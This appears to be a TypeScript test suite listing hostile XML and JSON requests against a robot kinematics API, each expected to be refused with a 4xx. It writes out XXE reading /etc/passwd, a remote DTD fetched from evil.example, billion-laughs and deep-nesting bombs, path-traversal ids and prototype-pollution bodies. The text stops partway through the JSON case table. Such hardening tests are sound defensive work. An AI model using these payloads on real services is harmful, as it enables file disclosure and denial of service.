/**
 * Hostile inputs, table-driven: XML (URDF uploads, as application/xml and as JSON { urdf }) and
 * JSON (every route) that a careless or malicious client may send. Each case states the status
 * and what the problem `detail` must say (API.md: RFC 9457 problem+json whose detail tells the
 * caller what to change; never a 5xx, never a crash, never a hang). After every case the service
 * must still answer GET /healthz; no case may take more than 2 s, and the heap must not grow by
 * more than 100 MB over the whole file.
 *
 * A second table, EXTREME_CASES, sends finite numbers near the limits of double precision and
 * robots with awkward names: the service may refuse them (a problem+json 4xx) or answer them (a
 * 2xx in which every number is finite, never a null), but never with a 5xx. (Today inputs beyond
 * ±1e9 are refused: see core/magnitude.ts.)
 */
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AppConfig } from '../../src/config.js';
import { createTestApp, type TestApp } from '../helpers/app.js';
import { startPostgresOrSkip } from '../helpers/postgres.js';

/** The suite runs against the file store and, where PostgreSQL can be started, the PostgreSQL store. */
const cluster = await startPostgresOrSkip();

// ---------------------------------------------------------------------------------------------
// requests

type Method = 'GET' | 'POST' | 'DELETE';

interface HostileRequest {
  method: Method;
  url: string;
  headers?: Record<string, string>;
  /** Raw body: sent exactly as given. */
  payload?: string | Buffer;
}

/** Which app a case runs against; see beforeAll for their limits. */
type AppName = 'default' | 'smallUrdf' | 'smallBody';

interface HostileCase {
  name: string;
  app?: AppName;
  request: HostileRequest;
  status: number;
  /** Fragments the problem detail must contain (strings case-sensitively). */
  detail: (string | RegExp)[];
  /** Fragments the detail must not contain (leaked file contents, for instance). */
  notInDetail?: string[];
}

/** Limits of the small apps. */
const SMALL_URDF = { urdfMaxBytes: 2048, urdfMaxLinks: 3 };
const SMALL_BODY = { bodyLimit: 4096, batchBodyLimit: 8192, maxBatch: 5 };
/** POST /robots accepts bodies of up to twice urdfMaxBytes plus this slack (routes/robots.ts). */
const UPLOAD_SLACK = 64 * 1024;

const JSON_TYPE = { 'content-type': 'application/json' };
const XML_TYPE = { 'content-type': 'application/xml' };

function xml(payload: string | Buffer, query = '', contentType = 'application/xml'): HostileRequest {
  return { method: 'POST', url: `/robots${query}`, headers: { 'content-type': contentType }, payload };
}

function urdfJson(urdf: string, extra: Record<string, unknown> = {}): HostileRequest {
  return { method: 'POST', url: '/robots', headers: JSON_TYPE, payload: JSON.stringify({ urdf, ...extra }) };
}

/** A JSON POST: objects are serialised, strings sent as they are. */
function post(url: string, body: unknown, headers: Record<string, string> = {}): HostileRequest {
  return { method: 'POST', url, headers: { ...JSON_TYPE, ...headers }, payload: typeof body === 'string' ? body : JSON.stringify(body) };
}

// ---------------------------------------------------------------------------------------------
// documents and bodies

const Q = [0, -1.2, 1.5, -1.9, -1.57, 0];
const TARGET = { position: [0.45, 0.15, 0.35], quaternion: [0.7071068, 0.7071068, 0, 0] };
const TWIST = { linear: [0.05, 0, 0], angular: [0, 0, 0] };
const UR5E_JOINTS = ['shoulder_pan_joint', 'shoulder_lift_joint', 'elbow_joint', 'wrist_1_joint', 'wrist_2_joint', 'wrist_3_joint'];
const PANDA_Q_BY_NAME = {
  panda_joint1: 0, panda_joint2: 0, panda_joint3: 0, panda_joint4: -1.5, panda_joint5: 0, panda_joint6: 1.5, panda_joint7: 0,
  panda_finger_joint1: 0.01, panda_finger_joint2: 0.01,
};

const LIMIT = '<limit lower="-3" upper="3" effort="10" velocity="2"/>';
const BODY = '<link name="a"/><link name="b"/><joint name="j" type="fixed"><parent link="a"/><child link="b"/></joint>';
const robot = (name: string, body = BODY): string => `<robot name="${name}">${body}</robot>`;
const joint = (name: string, type: string, parent: string, child: string, inner = ''): string =>
  `<joint name="${name}" type="${type}"><parent link="${parent}"/><child link="${child}"/>${inner}</joint>`;
const links = (...names: string[]): string => names.map((n) => `<link name="${n}"/>`).join('');

/** A two-joint arm; `o1`, `o2` are the joint origins, `j1`, `j2` the joint names. */
function arm(name: string, { o1 = '0 0 0', o2 = '0.5 0 0', j1 = 'shoulder', j2 = 'elbow' } = {}): string {
  return robot(name, links('base', 'upper', 'tool')
    + joint(j1, 'revolute', 'base', 'upper', `<origin xyz="${o1}"/><axis xyz="0 0 1"/>${LIMIT}`)
    + joint(j2, 'revolute', 'upper', 'tool', `<origin xyz="${o2}"/><axis xyz="0 0 1"/>${LIMIT}`));
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE robot [
  <!ENTITY lol "lol">
  ${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('\n  ')}
]>
<robot name="&lol9;"><link name="&lol9;"/></robot>`;
const XXE = '<?xml version="1.0"?>\n<!DOCTYPE robot [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>\n<robot name="&x;"><link name="&x;"/></robot>';
const EXTERNAL_DTD = `<!DOCTYPE robot SYSTEM "http://example.com/robot.dtd">${robot('r')}`;
const PARAMETER_ENTITIES = '<!DOCTYPE robot [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; <!ENTITY % e "<!ENTITY x \'y\'>"> %e; ]>'
  + robot('&x;');
const LOWERCASE_DOCTYPE = `<!doctype robot [<!entity a "b">]>${robot('r')}`;
const SPACED_DOCTYPE = `<?xml version="1.0"?>\n<!DocType\n\t  robot\n [\n<!ENTITY   a   "b"  >\n ]  >\n${robot('&a;')}`;
const nested = (depth: number): string => robot('deep', `${BODY}${'<n>'.repeat(depth)}${'</n>'.repeat(depth)}`);
const MANY_ELEMENTS = robot('many', BODY + '<x/>'.repeat(200_001));
const HUGE_ATTRIBUTE = robot('r', `${BODY}<material name="${'a'.repeat(70_000)}"/>`);
const MANY_ATTRIBUTES = `<robot name="r" ${Array.from({ length: 300 }, (_, i) => `a${i}="1"`).join(' ')}>${BODY}</robot>`;
/** Over 2048 characters, within the upload body limit: the URDF parser's length check refuses it. */
const SLIGHTLY_OVER = robot('slightly_over', `${BODY}<!--${'x'.repeat(3000)}-->`);
/** Past the upload body limit of the small app (urdfMaxBytes + 64 KiB). */
const FAR_OVER = robot('far_over', `${BODY}<!--${'x'.repeat(2 * SMALL_URDF.urdfMaxBytes + UPLOAD_SLACK + 1000)}-->`);
/** Under 2048 characters but over 2048 bytes in UTF-8 (three bytes per character). */
const MULTIBYTE_OVER = robot('multibyte_over', `${BODY}<!--${'ロ'.repeat(1000)}-->`);

function deepArray(depth: number): string {
  return `${'['.repeat(depth)}1${']'.repeat(depth)}`;
}
function deepObject(depth: number): string {
  return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

// ---------------------------------------------------------------------------------------------
// the table

const XML_CASES: HostileCase[] = [
  // DTDs and entities
  { name: 'XML: billion laughs (nested internal entities)', request: xml(BILLION_LAUGHS), status: 400, detail: ['DOCTYPE', 'not accepted'] },
  { name: 'XML: billion laughs sent as JSON { urdf }', request: urdfJson(BILLION_LAUGHS), status: 400, detail: ['DOCTYPE'] },
  { name: 'XML: external entity reading /etc/passwd (XXE)', request: xml(XXE), status: 400, detail: ['DOCTYPE'], notInDetail: ['root:'] },
  { name: 'XML: XXE sent as JSON { id, urdf }', request: urdfJson(XXE, { id: 'xxe' }), status: 400, detail: ['DOCTYPE'], notInDetail: ['root:'] },
  { name: 'XML: XXE as text/xml', request: xml(XXE, '', 'text/xml'), status: 400, detail: ['DOCTYPE'], notInDetail: ['root:'] },
  { name: 'XML: external DTD (SYSTEM URL)', request: xml(EXTERNAL_DTD), status: 400, detail: ['DOCTYPE'] },
  { name: 'XML: parameter entities (%remote;)', request: xml(PARAMETER_ENTITIES), status: 400, detail: ['DOCTYPE'] },
  { name: 'XML: lowercase <!doctype> with <!entity>', request: xml(LOWERCASE_DOCTYPE), status: 400, detail: ['DOCTYPE'] },
  { name: 'XML: mixed-case DocType split over lines and tabs', request: xml(SPACED_DOCTYPE), status: 400, detail: ['DOCTYPE'] },
  { name: 'XML: undefined entity &foo; in an attribute', request: xml(robot('&foo;')), status: 400, detail: ['not well-formed', 'undefined entity'] },
  { name: 'XML: undefined entity &foo; in text', request: xml(robot('r', `&foo;${BODY}`)), status: 400, detail: ['not well-formed', 'undefined entity'] },
  // caps
  { name: 'XML: elements nested 100 deep', request: xml(nested(100)), status: 400, detail: ['nested more than 64 deep'] },
  { name: 'XML: elements nested 10000 deep', request: xml(nested(10_000)), status: 400, detail: ['nested more than 64 deep'] },
  { name: 'XML: 200001 elements', request: xml(MANY_ELEMENTS), status: 400, detail: ['more than 200000 elements'] },
  { name: 'XML: a 70000-character attribute value', request: xml(HUGE_ATTRIBUTE), status: 400, detail: ['70000 characters', 'the limit is 65536'] },
  { name: 'XML: 300 attributes on one element', request: xml(MANY_ATTRIBUTES), status: 400, detail: ['<robot>', 'more than 256 attributes'] },
  { name: 'XML: URDF over urdfMaxBytes (2048), within the upload slack', app: 'smallUrdf', request: xml(SLIGHTLY_OVER), status: 413, detail: ['the limit is 2048', 'URDF_MAX_BYTES'] },
  {
    name: 'XML: URDF far over urdfMaxBytes (2048), past the upload body limit',
    app: 'smallUrdf', request: xml(FAR_OVER), status: 413, detail: ['2048', 'URDF_MAX_BYTES'],
  },
  {
    name: 'XML: URDF far over urdfMaxBytes sent as JSON { urdf }',
    app: 'smallUrdf', request: urdfJson(FAR_OVER), status: 413, detail: ['2048', 'URDF_MAX_BYTES'],
  },
  {
    name: 'XML: URDF under 2048 characters but over 3000 UTF-8 bytes, urdfMaxBytes 2048',
    app: 'smallUrdf', request: xml(MULTIBYTE_OVER), status: 413, detail: ['2048', 'UTF-8'],
  },
  { name: 'XML: more links (4) than urdfMaxLinks (3)', app: 'smallUrdf', request: xml(robot('r', links('a', 'b', 'c', 'd'))), status: 413, detail: ['more than 3 links', 'URDF_MAX_LINKS'] },
  {
    name: 'XML: more joints (4) than urdfMaxLinks (3)', app: 'smallUrdf',
    request: xml(robot('r', links('a', 'b', 'c') + joint('j1', 'fixed', 'a', 'b') + joint('j2', 'fixed', 'b', 'c') + joint('j3', 'fixed', 'a', 'c') + joint('j4', 'fixed', 'a', 'b'))),
    status: 413, detail: ['more than 3 joints', 'URDF_MAX_LINKS'],
  },
  // not well-formed, empty, not a URDF
  { name: 'XML: unclosed elements', request: xml('<robot name="r"><link name="a">'), status: 400, detail: ['not well-formed'] },
  { name: 'XML: mismatched closing tag', request: xml('<robot name="r"><link name="a"></robot>'), status: 400, detail: ['not well-formed'] },
  { name: 'XML: a duplicated attribute', request: xml('<robot name="a" name="b"><link name="x"/></robot>'), status: 400, detail: ['not well-formed', 'duplicate attribute'] },
  { name: 'XML: two root elements', request: xml(`${robot('r')}${robot('s')}`), status: 400, detail: ['not well-formed', 'only one root'] },
  { name: 'XML: text that is not XML', request: xml('hello, robot'), status: 400, detail: ['not well-formed'] },
  { name: 'XML: an empty body', request: xml(''), status: 400, detail: ['root element'] },
  { name: 'XML: an empty urdf in JSON', request: urdfJson(''), status: 400, detail: ['urdf'] },
  { name: 'XML: urdf as a number in JSON', request: post('/robots', { urdf: 5 }), status: 400, detail: ['urdf must be string'] },
  { name: 'XML: an unknown field next to urdf in JSON', request: urdfJson(robot('r'), { extra: 1 }), status: 400, detail: ['extra is not a known field'] },
  { name: 'XML: a non-URDF root element <html>', request: xml('<html><body/></html>'), status: 422, detail: ['root element is <html>', '<robot name='] },
  { name: 'XML: <robot> without a name', request: xml(`<robot>${BODY}</robot>`), status: 422, detail: ['<robot> element has no name attribute'] },
  // well-formed but invalid URDFs
  {
    name: 'XML: revolute joint without <limit>', request: xml(robot('r', links('a', 'b') + joint('j', 'revolute', 'a', 'b', '<axis xyz="0 0 1"/>'))),
    status: 422, detail: ['joint "j"', 'without a <limit> element'],
  },
  {
    name: 'XML: zero joint axis', request: xml(robot('r', links('a', 'b') + joint('j', 'revolute', 'a', 'b', `<axis xyz="0 0 0"/>${LIMIT}`))),
    status: 422, detail: ['joint "j"', 'zero axis'],
  },
  {
    name: 'XML: joints forming a cycle beside a root', request: xml(robot('r', links('root', 'a', 'b', 'c') + joint('j1', 'fixed', 'a', 'b') + joint('j2', 'fixed', 'b', 'c') + joint('j3', 'fixed', 'c', 'a'))),
    status: 422, detail: ['form a cycle'],
  },
  {
    name: 'XML: joints forming a cycle with no root', request: xml(robot('r', links('a', 'b', 'c') + joint('j1', 'fixed', 'a', 'b') + joint('j2', 'fixed', 'b', 'c') + joint('j3', 'fixed', 'c', 'a'))),
    status: 422, detail: ['cycle', 'no root link'],
  },
  { name: 'XML: two root links', request: xml(robot('r', links('a', 'b', 'c') + joint('j1', 'fixed', 'a', 'b'))), status: 422, detail: ['2 root links', '"a"', '"c"'] },
  { name: 'XML: floating joint', request: xml(robot('r', links('a', 'b') + joint('j', 'floating', 'a', 'b'))), status: 422, detail: ['floating', 'not supported'] },
  { name: 'XML: unknown joint type', request: xml(robot('r', links('a', 'b') + joint('j', 'spherical', 'a', 'b'))), status: 422, detail: ['unknown type "spherical"', 'revolute, continuous, prismatic and fixed'] },
  {
    name: 'XML: mimic joints that mimic each other',
    request: xml(robot('r', links('a', 'b', 'c') + joint('j1', 'revolute', 'a', 'b', `${LIMIT}<mimic joint="j2"/>`) + joint('j2', 'revolute', 'b', 'c', `${LIMIT}<mimic joint="j1"/>`))),
    status: 422, detail: ['mimic joints form a cycle'],
  },
  {
    name: 'XML: NaN in an origin', request: xml(robot('r', links('a', 'b') + joint('j', 'revolute', 'a', 'b', `<origin xyz="1 NaN 0"/>${LIMIT}`))),
    status: 422, detail: ['joint "j" origin xyz', 'not a finite number'],
  },
  {
    name: 'XML: 1e999 as a limit', request: xml(robot('r', links('a', 'b') + joint('j', 'revolute', 'a', 'b', '<limit lower="-1" upper="1e999" effort="1" velocity="1"/>'))),
    status: 422, detail: ['upper', 'not a finite number'],
  },
  // ids
  { name: 'XML: ?id=../etc', request: xml(robot('r'), '?id=../etc'), status: 400, detail: ['querystring.id'] },
  { name: 'XML: ?id=%2e%2e (encoded ..)', request: xml(robot('r'), '?id=%2e%2e'), status: 400, detail: ['querystring.id'] },
  { name: 'XML: ?id of 65 characters', request: xml(robot('r'), `?id=${'a'.repeat(65)}`), status: 400, detail: ['querystring.id'] },
  { name: 'XML: ?id in unicode', request: xml(robot('r'), `?id=${encodeURIComponent('ロボット')}`), status: 400, detail: ['querystring.id'] },
  { name: 'XML: ?id given twice', request: xml(robot('r'), '?id=a&id=b'), status: 400, detail: ['querystring.id'] },
  { name: 'XML: JSON id "../../etc/passwd"', request: urdfJson(robot('r'), { id: '../../etc/passwd' }), status: 400, detail: ['id must be a robot id: 1 to 64 letters'] },
  { name: 'XML: robot name with a space, no id', request: xml(robot('has space')), status: 400, detail: ['cannot serve as an id', '?id='] },
  { name: 'XML: robot name "../evil", no id', request: xml(robot('../evil')), status: 400, detail: ['cannot serve as an id', '"../evil"'] },
  { name: 'XML: unicode robot name, no id', request: xml(robot('ロボット')), status: 400, detail: ['cannot serve as an id'] },
  // media types
  { name: 'XML: application/xml to a JSON-only route (fk)', request: { method: 'POST', url: '/robots/ur5e/fk', headers: XML_TYPE, payload: '<q/>' }, status: 415, detail: ['application/json'] },
  { name: 'XML: text/plain URDF upload', request: xml(robot('r'), '', 'text/plain'), status: 415, detail: ['application/xml'] },
  { name: 'XML: application/urdf+xml upload', request: xml(robot('r'), '', 'application/urdf+xml'), status: 415, detail: ['application/xml'] },
  { name: 'XML: multipart upload', request: xml(robot('r'), '', 'multipart/form-data; boundary=x'), status: 415, detail: ['application/xml'] },
];

const JSON_CASES: HostileCase[] = [
  // malformed JSON
  { name: 'JSON: truncated body', request: post('/robots/ur5e/fk', '{"q":[0,0'), status: 400, detail: ['not valid JSON'] },
  { name: 'JSON: trailing garbage', request: post('/robots/ur5e/fk', '{"q":[0,0,0,0,0,0]} x'), status: 400, detail: ['not valid JSON'] },
  { name: 'JSON: single quotes', request: post('/robots/ur5e/jacobian', "{'q':[0,0,0,0,0,0]}"), status: 400, detail: ['not valid JSON'] },
  { name: 'JSON: NaN literal', request: post('/robots/ur5e/fk', '{"q":[NaN,0,0,0,0,0]}'), status: 400, detail: ['not valid JSON'] },
  { name: 'JSON: Infinity literal', request: post('/robots/ur5e/velocity', '{"q":[Infinity,0,0,0,0,0],"qdot":[0,0,0,0,0,0]}'), status: 400, detail: ['not valid JSON'] },
  { name: 'JSON: a comment', request: post('/robots/ur5e/fk', '{"q":[0,0,0,0,0,0] /* c */}'), status: 400, detail: ['not valid JSON'] },
  { name: 'JSON: empty body', request: post('/robots/ur5e/ik/step', ''), status: 400, detail: ['empty', 'JSON object'] },
  { name: 'JSON: whitespace-only body', request: post('/robots/ur5e/statics', ' \n\t '), status: 400, detail: ['empty'] },
  { name: 'JSON: a top-level array', request: post('/robots/ur5e/fk', '[0,0,0,0,0,0]'), status: 400, detail: ['body must be object'] },
  { name: 'JSON: a top-level string', request: post('/robots/ur5e/jacobian', '"q"'), status: 400, detail: ['body must be object'] },
  { name: 'JSON: a top-level number', request: post('/robots/ur5e/ik/solve', '42'), status: 400, detail: ['body must be object'] },
  { name: 'JSON: top-level null', request: post('/robots', 'null'), status: 400, detail: ['body must be object'] },
  // wrong types
  { name: 'JSON: q as a string', request: post('/robots/ur5e/fk', { q: '0,0,0,0,0,0' }), status: 400, detail: ['q must be', 'array of numbers'] },
  { name: 'JSON: q as nested arrays', request: post('/robots/ur5e/fk', { q: [[0], [0], 0, 0, 0, 0] }), status: 400, detail: ['q[0] must be a finite number'] },
  { name: 'JSON: q with a null', request: post('/robots/ur5e/jacobian', { q: [0, null, 0, 0, 0, 0] }), status: 400, detail: ['q[1] must be a finite number'] },
  { name: 'JSON: tip as a number', request: post('/robots/ur5e/jacobian', { q: Q, tip: 5 }), status: 400, detail: ['tip must be string'] },
  { name: 'JSON: unknown referenceFrame', request: post('/robots/ur5e/jacobian', { q: Q, referenceFrame: 'BODY' }), status: 400, detail: ['referenceFrame must be one of LOCAL_WORLD_ALIGNED, LOCAL, WORLD'] },
  { name: 'JSON: analysis "yes"', request: post('/robots/ur5e/jacobian', { q: Q, analysis: 'yes' }), status: 400, detail: ['analysis must be boolean'] },
  { name: 'JSON: "0.5" where a number belongs', request: post('/robots/ur5e/fk', { q: ['0.5', 0, 0, 0, 0, 0] }), status: 400, detail: ['q[0] must be a finite number'] },
  { name: 'JSON: 1e999 (overflows to Infinity)', request: post('/robots/ur5e/fk', '{"q":[1e999,0,0,0,0,0]}'), status: 400, detail: ['q[0] must be a finite number'] },
  { name: 'JSON: -1e999 in jacobian', request: post('/robots/ur5e/jacobian', '{"q":[0,-1e999,0,0,0,0]}'), status: 400, detail: ['q[1] must be a finite number'] },
  { name: 'JSON: a 900000-digit number', request: post('/robots/ur5e/fk', `{"q":[${'9'.repeat(900_000)},0,0,0,0,0]}`), status: 400, detail: ['q[0] must be a finite number'] },
  // joint vectors
  { name: 'JSON: q of the wrong length', request: post('/robots/ur5e/fk', { q: [0, 0, 0] }), status: 400, detail: ['q has 3 values', '6 active joints', 'shoulder_pan_joint'] },
  { name: 'JSON: qdot of the wrong length', request: post('/robots/ur5e/velocity', { q: Q, qdot: [1] }), status: 400, detail: ['qdot has 1 values'] },
  { name: 'JSON: seed of the wrong length', request: post('/robots/ur5e/ik/solve', { target: TARGET, seed: [1, 2] }), status: 400, detail: ['seed has 2 values'] },
  { name: 'JSON: qs[1] of the wrong length', request: post('/robots/ur5e/jacobian/batch', { qs: [Q, [0, 0]] }), status: 400, detail: ['qs[1] has 2 values'] },
  { name: 'JSON: q by name with an unknown joint', request: post('/robots/ur5e/fk', { q: { foo: 1 } }), status: 400, detail: ['foo', 'active joints are', 'shoulder_pan_joint'] },
  { name: 'JSON: q by name with a mimic joint', request: post('/robots/franka_panda/fk', { q: PANDA_Q_BY_NAME }), status: 400, detail: ['panda_finger_joint2', 'mimic joint', 'give "panda_finger_joint1"'] },
  { name: 'JSON: q by name with a missing joint', request: post('/robots/ur5e/fk', { q: { shoulder_pan_joint: 0 } }), status: 400, detail: ['missing joints', 'shoulder_lift_joint'] },
  {
    name: 'JSON: q with 100000 entries', request: post('/robots/ur5e/fk', { q: new Array(100_000).fill(0) }), status: 400, detail: ['at most 1000'],
  },
  {
    name: 'JSON: q as an object with 2000 keys', request: post('/robots/ur5e/fk', { q: Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`k${i}`, 0])) }), status: 400, detail: ['at most 1000'],
  },
  { name: 'JSON: qs over MAX_BATCH (6 > 5)', app: 'smallBody', request: post('/robots/ur5e/fk/batch', { qs: new Array(6).fill(Q) }), status: 400, detail: ['qs must have at most 5 items'] },
  { name: 'JSON: targets over MAX_BATCH (6 > 5)', app: 'smallBody', request: post('/robots/ur5e/ik/solve/batch', { targets: new Array(6).fill(TARGET) }), status: 400, detail: ['targets must have at most 5 items'] },
  { name: 'JSON: an empty qs', request: post('/robots/ur5e/fk/batch', { qs: [] }), status: 400, detail: ['qs must have at least 1 items'] },
  // nesting
  { name: 'JSON: q nested 10000 arrays deep', request: post('/robots/ur5e/fk', `{"q":${deepArray(10_000)}}`), status: 400, detail: ['nests arrays and objects more than 32 deep'] },
  { name: 'JSON: q nested 10000 objects deep', request: post('/robots/ur5e/fk', `{"q":${deepObject(10_000)}}`), status: 400, detail: ['more than 32 deep'] },
  { name: 'JSON: an unknown field nested 10000 arrays deep', request: post('/robots/ur5e/jacobian', `{"q":[0,0,0,0,0,0],"x":${deepArray(10_000)}}`), status: 400, detail: ['more than 32 deep'] },
  { name: 'JSON: q nested 500 arrays deep (a short body, not scanned)', request: post('/robots/ur5e/fk', `{"q":${deepArray(500)}}`), status: 400, detail: ['q[0] must be a finite number'] },
  { name: 'JSON: 5 million nested arrays on a batch route', request: post('/robots/ur5e/fk/batch', `{"qs":${'['.repeat(5_000_000)}}`), status: 400, detail: ['more than 32 deep'] },
  { name: 'JSON: brackets inside strings are not nesting', request: post('/robots/ur5e/fk', `{"q":[0,0,0,0,0,0],"links":["${'['.repeat(5000)}"]}`), status: 400, detail: ['links[0] must NOT have more than 256'] },
  { name: 'JSON: brackets after an escaped quote inside a string are not nesting', request: post('/robots/ur5e/fk', `{"q":[0,0,0,0,0,0],"links":["\\\\\\"${'['.repeat(5000)}"]}`), status: 400, detail: ['links[0] must NOT have more than 256'] },
  { name: 'JSON: a body declared as UTF-16', request: { method: 'POST', url: '/robots/ur5e/fk', payload: '{"q":[0,0,0,0,0,0]}', headers: { 'content-type': 'application/json; charset=utf-16' } }, status: 415, detail: ['charset=utf-16', 'UTF-8'] },
  // prototype pollution
  { name: 'JSON: __proto__ at the top', request: post('/robots/ur5e/fk', '{"q":[0,0,0,0,0,0],"__proto__":{"polluted":1}}'), status: 400, detail: ['"__proto__"', 'remove it'] },
  { name: 'JSON: __proto__ nested in q', request: post('/robots/ur5e/fk', '{"q":{"__proto__":{"polluted":1}}}'), status: 400, detail: ['"__proto__"'] },
  { name: 'JSON: __proto__ nested in target (ik/step)', request: post('/robots/ur5e/ik/step', '{"q":[0,0,0,0,0,0],"target":{"position":[0,0,0],"quaternion":[0,0,0,1],"__proto__":{"x":1}}}'), status: 400, detail: ['"__proto__"'] },
  { name: 'JSON: "\\u005f_proto__" (escaped)', request: post('/robots/ur5e/fk', '{"q":[0,0,0,0,0,0],"\\u005f_proto__":{"polluted":1}}'), status: 400, detail: ['"__proto__"'] },
  { name: 'JSON: constructor.prototype', request: post('/robots/ur5e/fk', '{"q":[0,0,0,0,0,0],"constructor":{"prototype":{"polluted":1}}}'), status: 400, detail: ['constructor.prototype'] },
  { name: 'JSON: __proto__ in a URDF upload body', request: post('/robots', `{"urdf":${JSON.stringify(robot('r'))},"__proto__":{"admin":true}}`), status: 400, detail: ['"__proto__"'] },
  // unknown fields
  { name: 'JSON: a typo (lnks)', request: post('/robots/ur5e/fk', { q: Q, lnks: ['tool0'] }), status: 400, detail: ['lnks is not a known field'] },
  { name: 'JSON: a wrong case (Tip)', request: post('/robots/ur5e/jacobian', { q: Q, Tip: 'tool0' }), status: 400, detail: ['Tip is not a known field', 'case-sensitive'] },
  { name: 'JSON: a typo in a nested object (twist.liner)', request: post('/robots/ur5e/ik/velocity', { q: Q, twist: { liner: [0, 0, 0], linear: [0, 0, 0], angular: [0, 0, 0] } }), status: 400, detail: ['twist.liner is not a known field'] },
  { name: 'JSON: "constructor" as a field', request: post('/robots/ur5e/fk', '{"q":[0,0,0,0,0,0],"constructor":1}'), status: 400, detail: ['constructor is not a known field'] },
  // missing fields
  { name: 'JSON: statics without wrench', request: post('/robots/ur5e/statics', { q: Q }), status: 400, detail: ['wrench is required'] },
  { name: 'JSON: ik/velocity without twist', request: post('/robots/ur5e/ik/velocity', { q: Q }), status: 400, detail: ['twist is required'] },
  { name: 'JSON: ik/solve/batch without targets', request: post('/robots/ur5e/ik/solve/batch', { seed: Q }), status: 400, detail: ['give the targets either as "targets" (poses) or as "targetsFloat64"'] },
  // robots and links
  { name: 'JSON: unknown robot (fk)', request: post('/robots/nope/fk', { q: Q }), status: 404, detail: ['no robot "nope"', 'known robots', 'ur5e'] },
  { name: 'JSON: unknown robot (ik/solve/batch)', request: post('/robots/nope/ik/solve/batch', { targets: [TARGET] }), status: 404, detail: ['no robot "nope"'] },
  { name: 'JSON: unknown tip link', request: post('/robots/ur5e/jacobian', { q: Q, tip: 'hand' }), status: 400, detail: ['tip "hand" is not a link', 'tool0'] },
  { name: 'JSON: unknown base link', request: post('/robots/ur5e/fk', { q: Q, base: 'floor' }), status: 400, detail: ['base "floor" is not a link'] },
  { name: 'JSON: unknown link in links', request: post('/robots/ur5e/fk', { q: Q, links: ['tool0', 'ghost'] }), status: 400, detail: ['link "ghost" is not a link'] },
  { name: 'JSON: unknown tip on jacobian/batch', request: post('/robots/ur5e/jacobian/batch', { qs: [Q], tip: 'nowhere' }), status: 400, detail: ['tip "nowhere"'] },
  { name: 'JSON: unknown tip on ik/step', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, tip: 'gripper' }), status: 400, detail: ['tip "gripper"'] },
  { name: 'JSON: a tree robot without tip', request: post('/robots/franka_panda/jacobian', { q: new Array(8).fill(0) }), status: 400, detail: ['tip links', 'name the one you mean in "tip"'] },
  { name: 'JSON: tipOffset of length 2', request: post('/robots/ur5e/jacobian', { q: Q, tipOffset: [0, 0] }), status: 400, detail: ['tipOffset must have at least 3 items'] },
  { name: 'JSON: wrench.force of length 2', request: post('/robots/ur5e/statics', { q: Q, wrench: { force: [0, 0], torque: [0, 0, 0] } }), status: 400, detail: ['wrench.force must have at least 3 items'] },
  // IK targets and options
  { name: 'JSON: non-unit quaternion target (ik/solve)', request: post('/robots/ur5e/ik/solve', { target: { position: [0.4, 0, 0.3], quaternion: [0, 0, 0, 2] } }), status: 400, detail: ['target.quaternion has norm 2', 'unit quaternion'] },
  { name: 'JSON: zero quaternion target (ik/step)', request: post('/robots/ur5e/ik/step', { q: Q, target: { position: [0.4, 0, 0.3], quaternion: [0, 0, 0, 0] } }), status: 400, detail: ['target.quaternion has norm 0'] },
  { name: 'JSON: non-orthonormal rotation target (ik/step)', request: post('/robots/ur5e/ik/step', { q: Q, target: { position: [0.4, 0, 0.3], rotation: [[1, 0, 0], [0, 2, 0], [0, 0, 1]] } }), status: 400, detail: ['target.rotation is not a rotation matrix'] },
  { name: 'JSON: a reflection as rotation target (ik/solve)', request: post('/robots/ur5e/ik/solve', { target: { position: [0.4, 0, 0.3], rotation: [[1, 0, 0], [0, 1, 0], [0, 0, -1]] } }), status: 400, detail: ['not a rotation matrix', 'determinant'] },
  { name: 'JSON: quaternion and rotation that disagree', request: post('/robots/ur5e/ik/step', { q: Q, target: { position: [0.4, 0, 0.3], quaternion: [0, 0, 0, 1], rotation: [[1, 0, 0], [0, -1, 0], [0, 0, -1]] } }), status: 400, detail: ['describe different orientations'] },
  { name: 'JSON: a target without orientation', request: post('/robots/ur5e/ik/solve', { target: { position: [0.4, 0, 0.3] } }), status: 400, detail: ['target needs an orientation'] },
  { name: 'JSON: a non-unit target in ik/solve/batch', request: post('/robots/ur5e/ik/solve/batch', { targets: [TARGET, { position: [0, 0, 0], quaternion: [1, 1, 0, 0] }] }), status: 400, detail: ['targets[1].quaternion has norm'] },
  { name: 'JSON: IK weights all zero', request: post('/robots/ur5e/ik/solve', { target: TARGET, weights: [0, 0, 0, 0, 0, 0] }), status: 400, detail: ['weights are all 0'] },
  { name: 'JSON: IK weight negative', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, weights: [1, 1, 1, -1, 1, 1] }), status: 400, detail: ['weights[3] must be >= 0'] },
  { name: 'JSON: jointWeights with a zero', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, jointWeights: [1, 1, 1, 1, 1, 0] }), status: 400, detail: ['jointWeights[5] must be >= 1e-9'] },
  {
    name: 'JSON: jointWeights by name with a negative', status: 400, detail: ['jointWeights.shoulder_pan_joint must be >= 1e-9'],
    request: post('/robots/ur5e/ik/solve', { target: TARGET, jointWeights: Object.fromEntries(UR5E_JOINTS.map((n, k) => [n, k === 0 ? -1 : 1])) }),
  },
  { name: 'JSON: timeoutMs above IK_MAX_TIMEOUT_MS', request: post('/robots/ur5e/ik/solve', { target: TARGET, timeoutMs: 5000 }), status: 400, detail: ['timeoutMs must be <= 1000'] },
  { name: 'JSON: timeoutMs 0', request: post('/robots/ur5e/ik/solve', { target: TARGET, timeoutMs: 0 }), status: 400, detail: ['timeoutMs must be > 0'] },
  { name: 'JSON: maxIterations 1.5', request: post('/robots/ur5e/ik/solve', { target: TARGET, maxIterations: 1.5 }), status: 400, detail: ['maxIterations must be integer'] },
